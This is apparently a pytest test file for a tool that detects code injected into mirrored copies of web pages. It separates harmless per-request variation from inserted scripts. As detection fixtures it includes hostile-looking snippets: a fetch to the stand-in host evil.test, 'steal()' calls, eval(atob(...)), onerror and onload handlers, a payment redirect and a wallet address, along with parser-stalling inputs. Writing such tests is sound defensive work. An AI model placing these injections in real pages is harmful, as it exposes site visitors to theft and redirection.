"""Code within a page: what varies from request to request, and what somebody put in."""

import time
from dataclasses import replace

import pytest
from tests.stages.mirrors.copies import ORIGIN, copy, differ

from wireroom.stages.mirrors.divergence import DivergenceKind

OWN_CODE = (
    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}"
    "gtag('js',new Date());gtag('config','G-4711',{'t':'8f3a'});</script>"
    "<script>function f(a,b,c){return eval(a)+atob(b)+g(atob('q')).h[0]+(c?f(b,a,0):i(a,b,c,a))"
    "};window.s=[f('a'),l(2),m(3,4),n('x').o(),p({q:r(5)}),t.u||(t.u=[]),v+w*x-y/z]</script>"
    '<script type="application/json">{"token":"%s"}</script>'
    '<script src="/static/app.4f3a21.js"></script>'
    "<button onclick=\"track('menu', 17)\">Menu</button>"
)


def codes(theirs, others=""):
    """How a copy with some code differs from one with other code, each beside the page's own."""
    return differ(
        copy(extra=OWN_CODE % "a1" + theirs), copy(host=ORIGIN, extra=OWN_CODE % "b2" + others)
    )


HARMLESS = {
    "a nonce": ('<script nonce="1">run("a")</script>', '<script nonce="2">run("a")</script>'),
    "a token": ("<script>run('ab12')</script>", "<script>run('cd34')</script>"),
    "an instant": ("<script>run(1755690000)</script>", "<script>run(1755690001)</script>"),
    "an id in a name": ("<script>slot_4711.show()</script>", "<script>slot_12.show()</script>"),
    "white space": ("<script>\n  run( 1 ) ;\n</script>", "<script>run(1);</script>"),
    "a comment": ("<script>/* built 12:00 */run(1)</script>", "<script>run(1)// at 11</script>"),
    "data of another length": (
        "<script>var items=[{'a':1},{'a':2},{'a':3}]</script>", "<script>var items=[]</script>",
    ),
    "the handler of another item": (
        "<a onclick=\"open('x',1)\">a</a>", "<a onclick=\"open('y',22)\">a</a>",
    ),
    "Rocket Loader's handler": (
        '<a onclick="if (!window.__cfRLUnblockHandlers) return false; show()">a</a>',
        '<a onclick="show()">a</a>',
    ),
    "Rocket Loader's type": (
        '<script type="8d1f-text/javascript">run(1)</script>', "<script>run(1)</script>",
    ),
    "another build": (
        '<script src="/static/app.9c1b77.js"></script>',
        '<script src="/static/app.01ab.js"></script>',
    ),
    "another release": (
        '<script src="/static/new.js"></script>', '<script src="/static/old.js"></script>',
    ),
    "Cloudflare's challenge": (
        ("<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b){"
        "var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8d',t:'MTc='};"
        "var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/scripts/jsd/"
        "main.js';document.getElementsByTagName('head')[0].appendChild(a);\";"
        "b.getElementsByTagName('head')[0].appendChild(d)}}c()})();</script>"),
        "",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("theirs", "others"), HARMLESS.values(), ids=HARMLESS)
def test_what_varies_from_request_to_request_is_no_difference(theirs, others):
    """Tokens, instants, ids, builds, what the edge adds."""
    found = codes(theirs, others)
    assert found.kind is DivergenceKind.IDENTICAL, found.changes
    assert codes(others, theirs).kind is DivergenceKind.IDENTICAL


INJECTED = {
    "a host": ("<script>fetch('https://evil.test/c')</script>", "script naming"),
    "a host without a scheme": ("<script>i.src='//evil.test/c'</script>", "script naming"),
    "a host in escaped JSON": ("<script>go('https:\\/\\/evil.test')</script>", "script naming"),
    "a call": ("<script>steal(btoa('ZmV0'))</script>", "script doing"),
    "an assignment": ("<script>document.body.innerHTML='x'</script>", "script doing"),
    "a jump": ("<script>location='/pay'</script>", "script doing"),
    "behind a pattern with a quote": ('<script>x=/["]/;steal()</script>', "script doing"),
    "behind a comment": ("<script>/* ' */steal()</script>", "script doing"),
    "calls that the page has": ("<script>gtag(dataLayer.push(gtag))</script>", "inline script"),
    "calls of a large script": ("<script>eval(atob('x'))</script>", "inline script"),
    "a handler of a second body": ("</article><body onload=go()>", "event handler"),
    "a handler": ("<img src=x onerror=go()>", "event handler"),
    "a module": ('<script type="module">steal()</script>', "script doing"),
    "an SVG's": ("<svg><script href='https://evil.test/x.js'></script></svg>", "script"),
    "an own file": ('<script src="/static/helper.js"></script>', "own script"),
    "a posing challenge": (
        "<script>steal('/cdn-cgi/challenge-platform/')</script>", "script doing",
    ),
    "a purse in code": (
        "<script>gtag('1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2')</script>", "payment address",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("extra", "what"), INJECTED.values(), ids=INJECTED)
def test_injected_code_is_named(extra, what):
    """By the host it names, by what it does, or whole."""
    found = codes(extra)
    assert found.kind is DivergenceKind.INJECTED
    assert what in {change.what for change in found.changes}
    assert codes("", extra).kind is DivergenceKind.IDENTICAL


TRICKS = {
    "quotes that are not closed": "'" * 200_000,
    "escaped quotes": '\\"' * 100_000,
    "comments that are not closed": "/*" * 100_000,
    "one long name": "a" * 400_000,
    "a long chain": "a." * 200_000,
    "one space after another": "x" + " " * 400_000,
    "brackets in a pattern": "=/[" * 100_000,
    "dots and spaces": "a . " * 100_000,
}


@pytest.mark.parametrize("code", TRICKS.values(), ids=TRICKS)
def test_code_that_is_hard_to_read_is_read_in_time(code):
    """A liar cannot keep the comparison busy: time grows with the length and not its square."""
    began = time.monotonic()
    codes(f"<script>{code}</script>", "<script>run(1)</script>")
    assert time.monotonic() - began < 20


def test_a_handler_is_the_same_in_utf_16():
    """Hosts spell their pages in the charset they like; the second <body> is read from its text."""
    extra = '<body onload="self.focus();">'
    theirs, others = copy(extra=extra), copy(host=ORIGIN, extra=extra)
    theirs = replace(theirs, body=theirs.body.decode().encode("utf-16"))
    assert differ(others, theirs).kind is DivergenceKind.IDENTICAL
